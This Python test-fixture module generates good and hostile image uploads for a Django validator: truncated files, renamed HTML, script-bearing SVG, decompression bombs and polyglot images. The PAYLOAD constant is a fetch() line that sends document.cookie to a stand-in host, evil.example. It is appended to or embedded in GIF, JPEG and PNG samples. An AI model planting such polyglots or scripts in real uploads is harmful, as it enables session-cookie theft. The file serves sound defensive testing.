"""Picture files as members and partners upload them: good ones, and the hostile or broken
ones a fuzz run sends (cut off, mislabelled, polyglots, decompression bombs)."""

import io
import struct
import zlib
from dataclasses import dataclass
from functools import cache

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

# What a polyglot carries after (or inside) the picture; it must never reach storage.
PAYLOAD = b"/*polyglot*/;fetch('https://evil.example/?c='+document.cookie);//"

CONTENT_TYPES = {
    "jpg": "image/jpeg",
    "jpeg": "image/jpeg",
    "png": "image/png",
    "gif": "image/gif",
    "webp": "image/webp",
    "svg": "image/svg+xml",
}


@dataclass(frozen=True)
class Sample:
    name: str
    content: bytes

    def upload(self) -> SimpleUploadedFile:
        extension = self.name.rsplit(".", 1)[-1]
        content_type = CONTENT_TYPES.get(extension, "application/octet-stream")
        return SimpleUploadedFile(self.name, self.content, content_type=content_type)


def photo(image_format: str = "JPEG", *, size=(320, 240), mode: str = "RGB", **options) -> bytes:
    """A noisy picture: noise keeps the compressed data long enough to cut in several places."""
    picture = Image.effect_noise(size, 64).convert(mode)
    buffer = io.BytesIO()
    picture.save(buffer, format=image_format, **options)
    return buffer.getvalue()


def animated_gif(*, frames: int = 3, **options) -> bytes:
    colours = [(200, 30, 30), (30, 200, 30), (30, 30, 200), (200, 200, 30)]
    pictures = [Image.new("RGB", (40, 40), colours[i % len(colours)]) for i in range(frames)]
    buffer = io.BytesIO()
    pictures[0].save(
        buffer, format="GIF", save_all=True, append_images=pictures[1:], duration=120, **options
    )
    return buffer.getvalue()


def png_header_only(width: int, height: int) -> bytes:
    """A PNG whose header claims ``width``×``height`` pixels followed by almost no data."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


@cache
def huge_png() -> bytes:
    """A real, tiny file of 12,000 × 12,000 one-bit pixels: small to send, huge to decode."""
    buffer = io.BytesIO()
    Image.new("1", (12_000, 12_000)).save(buffer, format="PNG")
    return buffer.getvalue()


def cut(content: bytes, fraction: float) -> bytes:
    return content[: int(len(content) * fraction)]


SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script><rect width='10' height='10'/></svg>"
)
HTML = b"<!doctype html><html><script>alert(document.cookie)</script></html>"


@cache
def good_samples() -> dict[str, Sample]:
    """Pictures that must still upload."""
    return {
        "jpeg": Sample("photo.jpg", photo("JPEG")),
        "png": Sample("logo.png", photo("PNG", mode="RGBA")),
        "gif": Sample("badge.gif", photo("GIF", mode="P")),
        "animated-gif": Sample("wave.gif", animated_gif()),
        "webp": Sample("team.webp", photo("WEBP")),
    }


@cache
def bad_samples() -> dict[str, Sample]:
    """Files no upload path may store (each must be refused with a message)."""
    jpeg, png, gif, webp = photo("JPEG"), photo("PNG"), photo("GIF", mode="P"), photo("WEBP")
    samples = {
        "empty-jpg": Sample("empty.jpg", b""),
        "random-bytes-png": Sample("noise.png", bytes(range(256)) * 8),
        "html-renamed-jpg": Sample("page.jpg", HTML),
        "html-renamed-gif": Sample("page.gif", HTML),
        "svg": Sample("logo.svg", SVG),
        "svg-renamed-png": Sample("logo.png", SVG),
        "bomb-header-png": Sample("bomb.png", png_header_only(65_000, 65_000)),
        "huge-dimensions-png": Sample("poster.png", huge_png()),
        "jpeg-header-only": Sample("photo.jpg", jpeg[:200]),
    }
    for label, name, content in (
        ("jpeg", "photo.jpg", jpeg),
        ("png", "logo.png", png),
        ("gif", "badge.gif", gif),
        ("webp", "team.webp", webp),
    ):
        for fraction in (0.25, 0.5, 0.9):
            samples[f"truncated-{label}-{int(fraction * 100)}pc"] = Sample(
                name, cut(content, fraction)
            )
    return samples


@cache
def polyglot_samples() -> dict[str, Sample]:
    """Valid pictures carrying a script: stored only with the script gone."""
    gif = photo("GIF", mode="P")
    return {
        "gif-then-javascript": Sample("pixel.gif", gif + PAYLOAD),
        "gif-javascript-comment": Sample("pixel.gif", photo("GIF", mode="P", comment=PAYLOAD)),
        "jpeg-trailing-garbage": Sample("photo.jpg", photo("JPEG") + PAYLOAD),
        "png-trailing-garbage": Sample("logo.png", photo("PNG") + PAYLOAD),
        "jpeg-javascript-comment": Sample("photo.jpg", photo("JPEG", comment=PAYLOAD)),
    }


def stored_files(media_root) -> list:
    """Every file that reached storage under `media_root`."""
    return [path for path in media_root.rglob("*") if path.is_file()] if media_root.exists() else []
